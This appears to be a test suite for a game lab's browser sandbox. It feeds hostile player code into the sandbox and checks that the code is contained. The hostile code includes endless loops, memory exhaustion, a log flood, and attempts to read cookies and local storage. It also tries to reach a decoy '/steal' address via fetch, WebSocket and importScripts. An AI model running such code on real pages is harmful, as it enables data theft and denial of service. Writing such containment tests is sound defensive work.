// Hostile players in the lab's sandbox (web/src/lab/player/): each of the
// attacks a student's code can make ends in the contest's penalty or a clear
// message, the page stays responsive throughout, the built-in player's games
// are the same as without it, and the page's storage (the game history, the
// learned values, a cookie) is untouched and unread. A worker that runs out
// of memory takes only the sandbox's process with it. On a cross-origin
// isolated page (the headers) every attack; on a plain static host the
// endless loop and the network (the service worker's isolated page, offline,
// is lab-player-offline.browser.test.mjs).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { appSuite } from './support/app-suite.mjs';
import { importTs } from './support/import-ts.mjs';
import { PENALTY_SYSTEM, mineLog, mineStatus, openLab, runWatching, setTournament, tableCells, typeCode } from './support/lab-player.mjs';

const suite = appSuite();
const { summarize } = await importTs('web/src/lab/stats.ts');

// Another address, on which any request or connection from the sandbox is counted.
let elsewhere;
const contacts = [];
before(async () => {
  const server = createServer((req, res) => {
    contacts.push(req.url);
    res.end('self.stolen = true;');
  });
  server.on('upgrade', (req, socket) => {
    contacts.push(`upgrade ${req.url}`);
    socket.destroy();
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  elsewhere = { url: `http://127.0.0.1:${server.address().port}/`, ws: `ws://127.0.0.1:${server.address().port}/`, close: () => new Promise((r) => server.close(r)) };
});
after(() => elsewhere?.close());

// A player that plays the first empty cell, row by row, and runs `attack` on
// the third card of every game (or `prepare` in setPointSystem).
const hostile = ({ attack = '', prepare = '' }) => `
class Hostile {
  setPointSystem(system, millis) { ${prepare} }
  init() { this.empty = pps.emptyCells([0, 1, 2, 3, 4].map(() => [null, null, null, null, null])); this.turn = 0; }
  getPlay(card, millis) {
    this.turn++;
    if (this.turn === 3) { ${attack} }
    return this.empty.shift();
  }
  getName() { return 'Hostile'; }
}
run(new Hostile());
`;

const SECRET = 'secret-3141';
const GAMES = 3;
const GREEDY = '69.33 ± 19.13 (3)'; // greedy alone on seeds 0..2 of PENALTY_SYSTEM, the public deals

// greedy's row as it plays alone the deals of a run with a student's player:
// sealed deals 0..2 of the key in the run's URL, played one by one by the
// page's engine. `evaluate` runs an expression in the page.
async function greedyAlone(url, evaluate) {
  const key = new URL(url).searchParams.get('key');
  assert.match(key ?? '', /^[0-9a-f]{64}$/, 'a run with a student player deals sealed deals');
  const scores = await evaluate(`Promise.all([0, 1, 2].map((seed) =>
    window.ppsEngine.labGame('greedy', { simulations: 300 }, ${JSON.stringify(PENALTY_SYSTEM)}, String(seed), '${key}')))`);
  const { mean, se, games } = summarize(scores);
  return `${mean.toFixed(2)} ± ${se.toFixed(2)} (${games})`;
}

// The page's own storage, set before the run: the history, the learned
// values' database and a cookie, each holding SECRET.
async function plantStorage(page) {
  await page.evaluate(async (secret) => {
    localStorage.setItem('pps-history-v1', JSON.stringify([{ secret }]));
    document.cookie = `pps-secret=${secret}; path=/`;
    await new Promise((resolve, reject) => {
      const open = indexedDB.open('pps-learned', 1);
      open.onupgradeneeded = () => open.result.createObjectStore('learned');
      open.onsuccess = () => {
        const tx = open.result.transaction('learned', 'readwrite');
        tx.objectStore('learned').put(secret, 'planted');
        tx.oncomplete = () => { open.result.close(); resolve(); };
      };
      open.onerror = () => reject(open.error);
    });
  }, SECRET);
}

async function storageAfter(page) {
  return page.evaluate(() => new Promise((resolve) => {
    const open = indexedDB.open('pps-learned', 1);
    open.onsuccess = () => {
      const get = open.result.transaction('learned').objectStore('learned').get('planted');
      get.onsuccess = () => resolve({ history: localStorage.getItem('pps-history-v1'), cookie: document.cookie, learned: get.result });
    };
  }));
}

// Plays the hostile `code` against greedy on PENALTY_SYSTEM with a 2 s game
// clock; returns the player's row, its status and log, with the checks every
// attack shares made.
async function playHostile(t, code, server = suite.isolated) {
  const { page, errors } = await suite.page(t, { viewport: { width: 1200, height: 900 } });
  await openLab(page, `${server.url}lab.html`);
  await plantStorage(page);
  await setTournament(page, { players: ['greedy'], systems: [PENALTY_SYSTEM], games: GAMES, clock: 2, prep: 2 });
  await typeCode(page, code);
  await runWatching(page);
  const cells = await tableCells(page);
  assert.deepEqual(cells.greedy, [await greedyAlone(page.url(), (e) => page.evaluate(e))], 'the built-in player plays as it would alone');
  assert.deepEqual(await storageAfter(page), { history: JSON.stringify([{ secret: SECRET }]), cookie: `pps-secret=${SECRET}`, learned: SECRET });
  const log = await mineLog(page);
  assert.ok(!log.includes(SECRET), 'the player read nothing of the page');
  assert.deepEqual(errors, []);
  return { page, mine: cells['yours: Hostile'], status: await mineStatus(page), log };
}

const ALL_LOST = [`-10.00 ± 0.00 (${GAMES})`];
const lostFor = (log, pattern) => {
  const lines = log.split('\n').filter((l) => l.includes('game lost (-10 points)'));
  assert.equal(lines.length, GAMES, log);
  for (const line of lines) assert.match(line, pattern);
};

test('greedy plays the same games without a student player (the reference row)', async (t) => {
  const { page } = await suite.page(t);
  await openLab(page, `${suite.isolated.url}lab.html`);
  await setTournament(page, { players: ['greedy'], systems: [PENALTY_SYSTEM], games: GAMES });
  await runWatching(page);
  assert.deepEqual((await tableCells(page)).greedy, [GREEDY]);
});

test('an endless loop in getPlay: the game is lost at its clock, the next game gets a fresh copy', async (t) => {
  const { page, mine, log } = await playHostile(t, hostile({ attack: 'for (;;) {}' }));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3 \(..\) within the (1\.\d{3}|2\.000) s left/);
  // Every lost game's worker was terminated in time: the sandbox itself stayed.
  assert.equal(await page.locator('iframe[data-player-sandbox]').getAttribute('data-number'), '1');
});

// The sandbox keeps the game's clock (sandbox-host.js): init's time counts,
// each getPlay is told what is left, and a move past it is stopped there
// (the same sandbox plays on) and lost with the time that was left.
test('the game clock counts init and every move; the move past it loses with the time left', async (t) => {
  const { page, mine, log } = await playHostile(t, hostile({ attack: `
    console.log('card 3 with ' + millis + ' ms');
    for (const end = Date.now() + 5000; Date.now() < end;);` }).replace('this.turn = 0;', `this.turn = 0;
    for (const end = Date.now() + 400; Date.now() < end;);`).replace('this.turn++;', `this.turn++;
    if (this.turn === 2) for (const end = Date.now() + 300; Date.now() < end;);`));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3 \(..\) within the 1\.\d{3} s left/);
  const given = [...log.matchAll(/card 3 with (\d+) ms/g)].map((m) => Number(m[1]));
  const left = [...log.matchAll(/within the (\d\.\d{3}) s left/g)].map((m) => Math.round(Number(m[1]) * 1000));
  assert.equal(given.length, GAMES, log);
  for (const [i, ms] of given.entries()) {
    assert.ok(ms > 1200 && ms <= 1300, `2 s less init's 400 ms and card 2's 300 ms: ${ms} ms`);
    assert.ok(Math.abs(left[i] - ms) <= 1, `the reason says the time getPlay was given: ${left[i]} and ${ms}`);
  }
  assert.equal(await page.locator('iframe[data-player-sandbox]').getAttribute('data-number'), '1', 'the sandbox stopped the worker itself');
});

test('an endless loop in setPointSystem: every game is lost at the preparation clock', async (t) => {
  const { mine, log } = await playHostile(t, hostile({ prepare: 'while (true) {}' }));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to setPointSystem within the 2\.000 s left/);
});

test('a 2 GB allocation: the game is lost, the page lives on', async (t) => {
  const { mine, log } = await playHostile(t, hostile({ attack: 'const a = new Uint8Array(2 * 1024 ** 3); a.fill(7); const b = []; for (;;) b.push(new Array(1e6).fill(a[5]));' }));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3/);
});

// A worker that exhausts V8's heap (4 GB here) aborts its renderer process.
// In Chromium the sandboxed iframe has a process of its own, so the page lives
// on: its pings to the sandbox go unanswered, it loses the game at once and
// makes a new sandbox for the next. Playwright reports the iframe's crash as
// the page's and refuses the page from then on, so this test reads the page
// through the DevTools protocol.
test('a worker that exhausts its memory takes only the sandbox with it: the game is lost, the page lives on', async (t) => {
  const { page } = await suite.page(t, { viewport: { width: 1200, height: 900 } });
  await openLab(page, `${suite.isolated.url}lab.html`);
  await plantStorage(page);
  await setTournament(page, { players: ['greedy'], systems: [PENALTY_SYSTEM], games: GAMES, clock: 120, prep: 5 });
  await typeCode(page, hostile({ attack: 'const a = []; for (;;) a.push(new Array(1e6).fill(1.5));' }));
  const cdp = await page.context().newCDPSession(page);
  const read = async (expression) => (await cdp.send('Runtime.evaluate', { expression, returnByValue: true, awaitPromise: true })).result.value;
  await page.click('#lab-run');
  const deadline = Date.now() + 300000;
  let slowest = 0;
  while (!(await read('document.body.dataset.labDone')) && Date.now() < deadline) {
    const start = Date.now();
    await read('new Promise((r) => requestAnimationFrame(() => r(1)))');
    slowest = Math.max(slowest, Date.now() - start);
    await new Promise((r) => setTimeout(r, 500));
  }
  assert.equal(await read('document.body.dataset.labDone'), String(2 * GAMES));
  assert.ok(slowest < 1000, `the page answered within ${slowest} ms`);
  const log = await read("document.getElementById('lab-mine-log').textContent");
  lostFor(log, /its sandbox stopped during card 3 \(..\) \(out of memory\?\)/);
  assert.equal(await read('window.ppsLabSandbox.frames'), GAMES, 'a new sandbox for each game');
  const cells = await read(`Object.fromEntries([...document.querySelectorAll('#lab-table tr')].slice(1).map((r) => [r.querySelector('th').textContent, r.querySelector('td').textContent]))`);
  assert.deepEqual(cells, { greedy: await greedyAlone(await read('location.href'), read), 'yours: Hostile': ALL_LOST[0] });
  assert.deepEqual(await read(`localStorage.getItem('pps-history-v1')`), JSON.stringify([{ secret: SECRET }]));
  await cdp.detach();
});

test('fetch, XMLHttpRequest, WebSocket, importScripts and import() of another address are refused', async (t) => {
  const steal = `${elsewhere.url}steal`;
  const attack = `
    const refused = (name, e) => console.log(name + ' refused: ' + (e && e.name));
    try { fetch('${steal}').then(() => console.log('fetch reached'), (e) => refused('fetch', e)); } catch (e) { refused('fetch', e); }
    try { const x = new XMLHttpRequest(); x.open('GET', '${steal}', false); x.send(); console.log('xhr reached'); } catch (e) { refused('XMLHttpRequest', e); }
    try { const w = new WebSocket('${elsewhere.ws}steal'); w.onopen = () => console.log('websocket reached'); w.onerror = () => console.log('WebSocket refused: error'); } catch (e) { refused('WebSocket', e); }
    try { importScripts('${steal}'); console.log('importScripts reached'); } catch (e) { refused('importScripts', e); }
    import('${steal}').then(() => console.log('import reached'), (e) => refused('import', e));
  `;
  const { mine, log } = await playHostile(t, hostile({ attack }));
  assert.match(mine[0], /\(3\)$/);
  assert.doesNotMatch(mine[0], /^-10/, 'no game is lost: the attempts fail and the player plays on');
  for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'import']) assert.match(log, new RegExp(`${name} refused`), log);
  assert.doesNotMatch(log, /reached/);
  assert.deepEqual(contacts, [], 'nothing reached the other address');
});

test('localStorage, indexedDB, document.cookie and parent are out of reach', async (t) => {
  const attack = `
    const tryRead = (name, read) => { try { console.log(name + ' gave ' + JSON.stringify(read())); } catch (e) { console.log(name + ' refused: ' + e.name); } };
    tryRead('localStorage', () => localStorage.getItem('pps-history-v1'));
    tryRead('document.cookie', () => document.cookie);
    tryRead('parent', () => parent.localStorage.getItem('pps-history-v1'));
    tryRead('indexedDB', () => {
      const open = indexedDB.open('pps-learned', 1);
      open.onsuccess = () => console.log('indexedDB opened ' + open.result.objectStoreNames.length + ' stores');
      open.onerror = () => console.log('indexedDB refused: ' + open.error.name);
      return 'asked';
    });
  `;
  const { mine, log } = await playHostile(t, hostile({ attack }));
  assert.doesNotMatch(mine[0], /^-10/);
  for (const name of ['localStorage', 'document.cookie', 'parent']) assert.match(log, new RegExp(`${name} refused: ReferenceError`), log);
  assert.match(log, /indexedDB (refused|opened 0 stores)/, log);
});

test('a flood of postMessage: no way to the sandbox host, and a flood of logs is cut short', async (t) => {
  const attack = `
    for (const [name, post] of [['postMessage', () => postMessage('x')], ['self.postMessage', () => self.postMessage('x')],
      ['the prototype', () => DedicatedWorkerGlobalScope.prototype.postMessage.call(self, 'x')]]) {
      try { post(); console.log(name + ' reached'); } catch (e) { console.log(name + ' refused: ' + e.name); }
    }
    for (let i = 0; ; i++) console.log('flood ' + i);
  `;
  const { mine, log } = await playHostile(t, hostile({ attack }));
  assert.deepEqual(mine, ALL_LOST);
  lostFor(log, /no answer to card 3 \(..\) within the (1\.\d{3}|2\.000) s left/);
  for (const name of ['postMessage', 'self.postMessage', 'the prototype']) assert.match(log, new RegExp(`${name} refused`), log);
  assert.doesNotMatch(log, /reached/);
  const floods = log.split('\n').filter((l) => l.startsWith('flood '));
  assert.ok(floods.length > 0 && floods.length <= 3 * 50, `${floods.length} lines of the flood reach the page`);
});

for (const [label, answer, pattern] of [
  ['an occupied cell', '[0, 0]', /returned \[0, 0\]: row 0, column 0 is taken for card 3/],
  ['a cell out of range', '[5, 0]', /returned \[5, 0\]: row and column must be 0 to 4/],
  ['NaN', '[NaN, 1]', /returned \[NaN, 1\]: row and column must be whole numbers/],
  ['a string', "'0 0'", /returned the string "0 0", not \[row, col\]/],
  ['strings in the array', "['0', '1']", /returned an array of 2, not \[row, col\]/],
  ['a promise that never settles', 'new Promise(() => {})', /returned a Promise, not \[row, col\]/],
]) {
  test(`an answer that is ${label} loses the game, saying why`, async (t) => {
    const { mine, log } = await playHostile(t, hostile({ attack: `return ${answer};` }));
    assert.deepEqual(mine, ALL_LOST);
    lostFor(log, pattern);
  });
}

test('on a plain static host: an endless loop is stopped, the network refused', async (t) => {
  const attack = `
    try { importScripts('${elsewhere.url}plain'); } catch (e) { console.log('importScripts refused: ' + e.name); }
    for (;;) {}
  `;
  const { mine, log } = await playHostile(t, hostile({ attack }), suite.plain);
  assert.deepEqual(mine, ALL_LOST);
  assert.match(log, /importScripts refused/);
  lostFor(log, /no answer to card 3/);
  assert.deepEqual(contacts, []);
});
